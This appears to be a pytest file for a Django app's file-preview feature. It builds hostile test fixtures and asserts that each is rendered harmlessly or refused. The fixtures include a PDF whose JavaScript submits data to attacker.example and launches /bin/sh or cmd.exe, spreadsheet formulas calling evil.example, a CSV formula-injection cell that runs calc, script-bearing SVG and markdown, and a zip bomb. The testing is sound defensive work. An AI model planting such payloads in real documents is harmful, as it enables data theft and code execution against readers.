"""Previews of a version's files beside the criterion, and the hostile files each previews
safely or says why not: a PDF with thousands of pages or a huge page, an encrypted or a broken
PDF, a PDF carrying JavaScript, a /Launch, links and remote files (drawn, nothing run or
fetched), a workbook with formulas and external links, a CSV with formula-like cells, an SVG
with script, a zip bomb dressed as a workbook."""

from __future__ import annotations

import hashlib
import io
import json
import os
import socket
import subprocess
import urllib.request
import zipfile

import openpyxl
import pikepdf
import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.urls import reverse
from PIL import Image

from assessment import previews
from core.models import OutboxMessage, VersionFile

pytestmark = pytest.mark.django_db


def _stored(version, data: bytes, name: str, content_type: str) -> VersionFile:
    saved = default_storage.save(f"evidence/test/{name}", ContentFile(data))
    return VersionFile.objects.create(
        version=version,
        evidence_id=900 + VersionFile.objects.count(),
        name=saved,
        original_name=name,
        content_type=content_type,
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )


def _pdf(pages: int = 1, size=(595, 842), text: str = "Weekend response times") -> bytes:
    pdf = pikepdf.new()
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=size)
        font = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
            )
        )
        page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode())
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _preview_url(stored):
    version = stored.version
    return reverse("portfolio:version_file_preview", args=[version.portfolio_id, version.number, stored.pk])


def _drawn(client, stored, capture) -> str:
    """The preview once the worker has drawn the file (the first request queues it)."""
    with capture(execute=True):
        client.get(_preview_url(stored))
    return client.get(_preview_url(stored)).content.decode()


def _page_url(stored, page):
    version = stored.version
    return reverse(
        "portfolio:version_file_page", args=[version.portfolio_id, version.number, stored.pk, page]
    )


# --- PDFs ------------------------------------------------------------------------------------------


def test_a_pdf_is_drawn_by_the_worker_once_per_digest_and_served_as_page_images(
    client, assessor, version, django_capture_on_commit_callbacks
):
    data = _pdf(pages=2)
    stored = _stored(version, data, "briefing.pdf", "application/pdf")
    client.force_login(assessor)

    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        first = client.get(_preview_url(stored)).content.decode()
    # Queued through the outbox, not drawn in the request: the panel says so and polls.
    assert "Preparing the preview of briefing.pdf" in first
    assert f'hx-get="{_preview_url(stored)}" hx-trigger="load delay:1s"' in first
    renders = OutboxMessage.objects.filter(task="assessment.tasks.render_pdf_preview")
    assert renders.count() == 1
    for callback in callbacks:
        callback()  # the worker (eager in tests) draws the pages

    ready = client.get(_preview_url(stored)).content.decode()
    image = client.get(_page_url(stored, 1))

    assert f'src="{_page_url(stored, 2)}"' in ready
    assert image.status_code == 200
    assert image["Content-Type"] == "image/png"
    assert "sandbox" in image["Content-Security-Policy"]
    assert Image.open(io.BytesIO(b"".join(image.streaming_content))).width == previews.PAGE_WIDTH_PX
    assert client.get(_page_url(stored, 3)).status_code == 404
    # Another version's copy of the same file uses the same pages: nothing is queued again.
    again = _stored(version, data, "briefing-again.pdf", "application/pdf")
    assert "Page 1 of briefing-again.pdf" in client.get(_preview_url(again)).content.decode()
    assert renders.count() == 1


def test_a_pdf_with_thousands_of_pages_shows_the_first_few(
    client, assessor, version, django_capture_on_commit_callbacks
):
    stored = _stored(version, _pdf(pages=3000), "bomb.pdf", "application/pdf")
    client.force_login(assessor)

    page = _drawn(client, stored, django_capture_on_commit_callbacks)

    assert f"The first {previews.PDF_MAX_PAGES} of 3000 pages" in page
    with default_storage.open(previews.manifest_name(stored.sha256)) as handle:
        assert json.loads(handle.read())["rendered"] == previews.PDF_MAX_PAGES
    assert not default_storage.exists(previews.page_name(stored.sha256, previews.PDF_MAX_PAGES + 1))


def test_a_huge_page_is_drawn_within_the_pixel_cap(
    client, assessor, version, django_capture_on_commit_callbacks
):
    stored = _stored(version, _pdf(size=(200, 14400)), "banner.pdf", "application/pdf")
    client.force_login(assessor)

    _drawn(client, stored, django_capture_on_commit_callbacks)
    with default_storage.open(previews.page_name(stored.sha256, 1)) as handle:
        image = Image.open(handle)
        assert image.width * image.height <= previews.PAGE_MAX_PIXELS


def test_an_encrypted_pdf_says_why_and_offers_the_download(
    client, assessor, version, django_capture_on_commit_callbacks
):
    out = io.BytesIO()
    pdf = pikepdf.Pdf.open(io.BytesIO(_pdf()))
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="owner"))
    stored = _stored(version, out.getvalue(), "locked.pdf", "application/pdf")
    client.force_login(assessor)

    page = _drawn(client, stored, django_capture_on_commit_callbacks)

    assert "No preview: The PDF is protected by a password" in page
    assert "Download locked.pdf" in page
    assert "<img" not in page


def test_a_malformed_pdf_says_why(client, assessor, version, django_capture_on_commit_callbacks):
    stored = _stored(
        version,
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >>\ngarbage",
        "broken.pdf",
        "application/pdf",
    )
    client.force_login(assessor)

    page = _drawn(client, stored, django_capture_on_commit_callbacks)

    assert "No preview: The PDF could not be read" in page
    assert "Download broken.pdf" in page


def _hostile_pdf() -> bytes:
    """A one-page PDF written by hand, as an attacker would: JavaScript run on opening
    (/OpenAction), a /Launch of a program, /URI links, a /GoToR to a remote file and a page
    drawn from a remote file (/F with a URL); a valid cross-reference table."""
    remote = b"<< /Type /Filespec /FS /URL /F (http://attacker.example/remote.pdf) >>"
    objects: list[bytes | None] = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R"
        b" /AA << /WC << /S /JavaScript /JS (app.launchURL('http://attacker.example/closed');) >> >>"
        b" /Names << /JavaScript << /Names [(init) 4 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R"
        b" /Resources << /Font << /F1 6 0 R >> /XObject << /X1 10 0 R >> >> /Annots [7 0 R 8 0 R 9 0 R]"
        b" /AA << /O << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >> >> >>",
        b"<< /S /JavaScript /JS (this.submitForm('http://attacker.example/steal'); app.alert(1);) >>",
        None,  # the content stream, below
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 730]"
        b" /A << /S /Launch /F (/usr/bin/xcalc) /NewWindow true >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 650 300 680]"
        b" /A << /S /URI /URI (http://attacker.example/beacon) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A << /S /GoToR /F "
        + remote
        + b" /D [0 /Fit] >> >>",
        # An external stream: its data is to come from a URL.
        b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray"
        b" /BitsPerComponent 8 /Length 0 /F " + remote + b" >>\nstream\n\nendstream",
    ]
    text = b"BT /F1 24 Tf 72 760 Td (Hostile but harmless) Tj ET"
    objects[4] = b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream"
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        assert body is not None
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def test_a_pdf_with_javascript_launch_uri_and_remote_files_is_drawn_with_nothing_run_or_fetched(
    client, assessor, version, django_capture_on_commit_callbacks, monkeypatch
):
    # Anything that would start a program or open a connection from Python is recorded (and
    # refused); pytest-socket already blocks the network for the whole run.
    attempts = []

    def refuse(what):
        def call(*args, **kwargs):
            attempts.append((what, args))
            raise AssertionError(f"{what} called while drawing a PDF")

        return call

    for module, name in (
        (subprocess, "Popen"),
        (os, "system"),
        (os, "posix_spawn"),
        (os, "execv"),
        (socket, "create_connection"),
        (socket.socket, "connect"),
        (urllib.request, "urlopen"),
    ):
        monkeypatch.setattr(module, name, refuse(f"{getattr(module, '__name__', module)}.{name}"))
    data = _hostile_pdf()
    assert pikepdf.open(io.BytesIO(data)).Root.OpenAction.S == "/JavaScript"  # a PDF as written
    stored = _stored(version, data, "hostile.pdf", "application/pdf")
    client.force_login(assessor)

    page = _drawn(client, stored, django_capture_on_commit_callbacks)
    image = client.get(_page_url(stored, 1))

    assert f'src="{_page_url(stored, 1)}"' in page
    assert "No preview" not in page
    assert image.status_code == 200
    drawn = Image.open(io.BytesIO(b"".join(image.streaming_content)))
    assert drawn.width == previews.PAGE_WIDTH_PX
    assert drawn.convert("L").getextrema()[0] < 128  # the text was drawn: a dark pixel
    assert attempts == []
    assert "attacker.example" not in page


# --- Spreadsheets ------------------------------------------------------------------------------------


def _workbook_with_formulas_and_an_external_link() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Rota"
    sheet.append(["Day", "Staff", "Total"])
    sheet.append(["Saturday", 2, "=SUM(B2:B3)"])
    sheet.append(["Sunday", 1, '=HYPERLINK("https://evil.example/steal?d="&A2,"click")'])
    sheet.append(["Linked", "", "='https://evil.example/[book.xlsx]Sheet1'!A1"])
    sheet.append(["Fetch", "", '=WEBSERVICE("https://evil.example/ping")'])
    raw = io.BytesIO()
    book.save(raw)
    # Add an external workbook link part, as Excel writes one.
    source = zipfile.ZipFile(io.BytesIO(raw.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdExt1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
                )
            target.writestr(info, data)
        target.writestr(
            "xl/externalLinks/externalLink1.xml",
            '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
            "</externalLink>",
        )
        target.writestr(
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
            'Target="https://evil.example/book.xlsx" TargetMode="External"/></Relationships>',
        )
    return out.getvalue()


XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_a_workbook_shows_its_formulas_as_text_never_calculated_nor_linked(client, assessor, version):
    stored = _stored(version, _workbook_with_formulas_and_an_external_link(), "rota.xlsx", XLSX)
    client.force_login(assessor)

    page = client.get(_preview_url(stored)).content.decode()

    assert "Sheet Rota: the first 5 rows" in page
    assert "<td>=SUM(B2:B3)</td>" in page
    assert "<td>=HYPERLINK(&quot;https://evil.example/steal?d=&quot;&amp;A2,&quot;click&quot;)</td>" in page
    assert "<td>=WEBSERVICE(&quot;https://evil.example/ping&quot;)</td>" in page
    assert 'href="https://evil' not in page
    assert "formulas are not calculated" in page


def test_a_zip_bomb_dressed_as_a_workbook_is_refused(client, assessor, version):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b"<" + b" " * (previews.SHEET_MAX_UNPACKED + 10) + b">")
    stored = _stored(version, out.getvalue(), "bomb.xlsx", XLSX)
    client.force_login(assessor)

    page = client.get(_preview_url(stored)).content.decode()

    assert "No preview: The workbook unpacks to too much data to preview." in page


def test_a_broken_workbook_says_why(client, assessor, version):
    stored = _stored(version, b"PK\x03\x04 not really a zip", "broken.xlsx", XLSX)
    client.force_login(assessor)

    assert "No preview: The workbook could not be read." in client.get(_preview_url(stored)).content.decode()


def test_a_csv_with_formula_like_cells_shows_them_as_text(client, assessor, version):
    data = (
        b"Channel,Count,Note\n"
        b"X,41,\"=cmd|' /C calc'!A0\"\n"
        b"Facebook,12,@SUM(1+1)\n"
        b"Email,+3,<script>alert(1)</script>\n"
    )
    stored = _stored(version, data, "volumes.csv", "text/csv")
    client.force_login(assessor)

    page = client.get(_preview_url(stored)).content.decode()

    assert '<th scope="col">Channel</th>' in page
    assert "<td>=cmd|&#x27; /C calc&#x27;!A0</td>" in page
    assert "<td>@SUM(1+1)</td>" in page
    assert "<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>" in page
    assert "<script>alert" not in page


# --- Text, images, the rest ----------------------------------------------------------------------------


def test_text_is_shown_as_text_and_markdown_through_the_safe_renderer(client, assessor, version):
    text = _stored(version, b"Escalate after 2 hours.\n<script>alert(1)</script>", "notes.txt", "text/plain")
    markdown = _stored(
        version, b"# Plan\n\n**Weekend** rota\n\n<img src=x onerror=alert(1)>", "plan.md", "text/markdown"
    )
    client.force_login(assessor)

    shown = client.get(_preview_url(text)).content.decode()
    rendered = client.get(_preview_url(markdown)).content.decode()

    assert "Escalate after 2 hours.\n&lt;script&gt;" in shown
    assert "<strong>Weekend</strong>" in rendered
    assert "onerror" not in rendered
    assert "<img" not in rendered


def test_an_svg_with_script_is_not_rendered_inline(client, assessor, version):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="4"/></svg>'
    stored = _stored(version, svg, "chart.svg", "image/svg+xml")
    client.force_login(assessor)

    page = client.get(_preview_url(stored)).content.decode()

    assert "No preview: SVG drawings can carry script" in page
    assert "<img" not in page
    assert "Download chart.svg" in page


def test_an_image_is_shown_with_a_keyboard_reachable_zoom(client, assessor, version):
    raw = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(raw, format="PNG")
    stored = _stored(version, raw.getvalue(), "post.png", "image/png")
    client.force_login(assessor)

    page = client.get(_preview_url(stored)).content.decode()

    assert '<button type="button" class="ws-zoomable"' in page
    assert 'aria-label="Enlarge post.png"' in page


def test_a_word_file_says_there_is_no_preview(client, assessor, version):
    stored = _stored(
        version,
        b"PK\x03\x04",
        "report.docx",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    )
    client.force_login(assessor)

    assert (
        "No preview: There is no preview for this kind of file."
        in client.get(_preview_url(stored)).content.decode()
    )


def test_previews_follow_the_one_gate(client, outsider, tutor, version):
    stored = _stored(version, b"hello", "notes.txt", "text/plain")
    client.force_login(outsider)
    assert client.get(_preview_url(stored)).status_code == 404
    client.force_login(tutor)
    assert client.get(_preview_url(stored)).status_code == 200
